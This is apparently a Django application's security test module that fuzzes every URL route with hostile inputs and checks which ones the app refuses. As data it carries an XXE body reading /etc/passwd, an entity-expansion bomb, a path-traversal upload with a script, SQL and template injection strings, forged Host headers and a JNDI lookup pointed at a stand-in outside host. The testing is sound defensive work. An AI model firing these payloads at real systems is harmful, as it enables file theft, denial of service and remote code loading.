"""
Every address of the URL configuration, attacked as such: without a token, with keys that are none, with
bodies that are no form, with headers that no browser of ours sends, and with far too much.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from functools import partial
from urllib.parse import quote

import psycopg
from django.urls import URLPattern, URLResolver, get_resolver

from nowrongdoor.console import counting
from nowrongdoor.console.prove.attack.corpus import ELSEWHERE, FORGED_LINE, MARK
from nowrongdoor.console.prove.attack.firing import KEY, Fired
from nowrongdoor.console.prove.attack.sending import FORM, Answer, Sender

UNSAFE = ("POST", "PUT", "PATCH", "DELETE")
REFUSED = {403, 405}
NOT_ROWS = {"django_session", "accounts_remembered"}
JUNK = (
    "zqx",
    KEY,
    "%00",
    "..%2f..%2fetc",
    "%E2%80%AE",
    "{{9071*8837}}zqx",
    f"%0d%0a{FORGED_LINE}",
    "1e999",
    "9" * 400,
)
DEEP = "[" * 100_000
BODIES = {
    "deep JSON": ("application/json", DEEP.encode()),
    "JSON that is a number": ("application/json", b'{"words": 1e999, "seen": NaN, "\\ud800": "\\u0000"}'),
    "XML that grows": ("application/xml", b'<!DOCTYPE z [<!ENTITY a "zqx"><!ENTITY b "&a;&a;">]><z>&b;</z>'),
    "XML that reads a file": (
        "text/xml",
        b'<!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd">]><z>&x;</z>',
    ),
    "plain text": ("text/plain", b"words=zqx"),
    "no kind": ("", b"words=zqx"),
    "no form at all": (
        "multipart/form-data; boundary=zqx",
        b"--zqx\r\nContent-Disposition: form-data; name=\r\n",
    ),
    "no boundary": ("multipart/form-data", b"words=zqx"),
    "a file that climbs": (
        "multipart/form-data; boundary=zqx",
        b'--zqx\r\nContent-Disposition: form-data; name="files"; filename="../../zqx.html\x00.png"\r\n'
        b"Content-Type: image/png\r\n\r\n<script>alert('zqx')</script>\r\n--zqx--\r\n",
    ),
    "a charset nobody knows": (f"{FORM}; charset=zqx", b"words=zqx"),
    "a charset of other bytes": (f"{FORM}; charset=utf-16", b"words=zqx"),
    "a hundred thousand fields": (FORM, "&".join(f"f{n}=zqx" for n in range(100_000)).encode()),
    "a field of a hundred thousand": (FORM, ("words=zqx&" * 100_000).encode()),
    "names of the database": (FORM, b"words__in=zqx&id__gt=0&person__family_name__regex=zqx&pk=1&_order=zqx"),
}
HEADERS = {
    "Host": f"{ELSEWHERE}",
    "X-Forwarded-Host": ELSEWHERE,
    "X-Forwarded-For": "zqx'; DROP TABLE x; --",
    "X-Forwarded-Proto": "javascript",
    "X-Original-URL": "/governance",
    "X-HTTP-Method-Override": "DELETE",
    "Forwarded": f"for=zqx;host={ELSEWHERE}",
    "Referer": f"https://{ELSEWHERE}/<script>zqx</script>",
    "Origin": f"https://{ELSEWHERE}",
    "Cookie": "sessionid=zqx'--; csrftoken=<script>; zqx=\x00; " + "a=b; " * 500,
    "Accept-Language": "zqx;q=1e999,{{9071*8837}}," + "a," * 2_000,
    "Accept": "zqx/zqx",
    "Authorization": "Bearer zqx",
    "HX-Request": "true",
    "HX-Current-URL": f"javascript:{MARK}",
    "User-Agent": f"{MARK} ${{jndi:ldap://{ELSEWHERE}/a}}",
    "Range": "bytes=0-,-1,1e999",
    "If-Modified-Since": "zqx",
    "Content-Encoding": "gzip",
}
# By how an address writes what stands there.
FITTING = {"uuid": KEY, "int": "999999"}
TOO_LARGE = 40_000_000


@dataclass
class Tokenless:
    """What became of everything that was sent without a token."""

    routes: set[str] = field(default_factory=set)
    tried: int = 0
    taken: list[str] = field(default_factory=list)


def addresses(junk: str | None = None) -> Iterator[tuple[str, str]]:
    """Name and path of every address: with keys that fit and lead nowhere, or with this in place of each."""
    for route, name in _patterns(get_resolver().url_patterns, ""):
        yield name, "/" + re.sub(r"<(?:(\w+):)?\w+>", lambda key: junk or FITTING.get(key[1], "zqx"), route)


def _patterns(patterns: list[URLPattern | URLResolver], before: str) -> Iterator[tuple[str, str]]:
    for one in patterns:
        route = before + str(one.pattern)
        if isinstance(one, URLResolver):
            yield from _patterns(one.url_patterns, route)
        else:
            yield route, one.name or ""


def without_token(
    senders: list[Sender], owner: psycopg.Connection, places: Mapping[str, str] | None = None
) -> Tokenless:
    """By every method that could record something, as a form, as JSON and as plain text; to every address."""
    came = Tokenless()
    before = rows(owner)
    for sender in senders:
        for name, path in (places or dict(addresses())).items():
            for how in UNSAFE:
                for kind in (FORM, "application/json", "text/plain") if how == "POST" else (FORM,):
                    answer = sender.ask(how, path, body=b"words=zqx&as=zqx", headers={"Content-Type": kind})
                    came.tried += 1
                    came.routes.add(name)
                    if answer.status not in REFUSED:
                        came.taken.append(f"{answer.status} {how} {path} as {sender.role}")
    after = rows(owner)
    came.taken += [
        f"{name}: {before[name]} rows became {after[name]}" for name in after if before[name] != after[name]
    ]
    return came


def rows(owner: psycopg.Connection) -> dict[str, int]:
    with owner.transaction():
        return {name: count for name, count in counting.rows_there(owner).items() if name not in NOT_ROWS}


def strange(senders: list[Sender], fired: Fired, *, every: int) -> None:
    """Keys, bodies and headers; of all of them every so many-th."""
    number = 0
    for what, send in _each(senders):
        number += 1
        if number % every:
            continue
        answer = send()
        fired.inputs += 1
        fired.answered[answer.status] += 1
        fired.kinds[what] += 1


def _each(senders: list[Sender]) -> Iterator[tuple[str, Callable[[], Answer]]]:
    asked = quote(f"{MARK}'\"><script>{{{{9071*8837}}}}\x00")
    query = "&".join(f"{name}={asked}" for name in ("draft", "person", "before", "next", "q", "wall"))
    for sender in senders:
        for junk in JUNK:
            for _, path in addresses(junk):
                yield "key that is none", partial(sender.get, path)
        for _, path in addresses():
            yield "query that is none", partial(sender.get, f"{path}?{query}")
            for header, value in HEADERS.items():
                yield "header", partial(sender.get, path, headers={header: value})
            for what, (kind, body) in BODIES.items():
                yield what, partial(with_token, sender, path, kind, body, what)


def with_token(sender: Sender, path: str, kind: str, body: bytes, what: str) -> Answer:
    headers = {"X-CSRFToken": sender.cookies.get("csrftoken", "")} | ({"Content-Type": kind} if kind else {})
    return sender.ask("POST", path, body=body, headers=headers, what=f"{what} to {path} as {sender.role}")


def too_large(sender: Sender) -> list[str]:
    """Every address answers more than it takes in with 413 in words; those that answered otherwise."""
    otherwise = []
    for _, path in addresses():
        headers = {"Content-Type": FORM, "Content-Length": str(TOO_LARGE)}
        answer = sender.ask("POST", path, headers=headers, what=f"too large to {path}")
        if answer.status != 413 or "<h1" not in answer.text:
            otherwise.append(f"{answer.status}: {path}")
    return otherwise
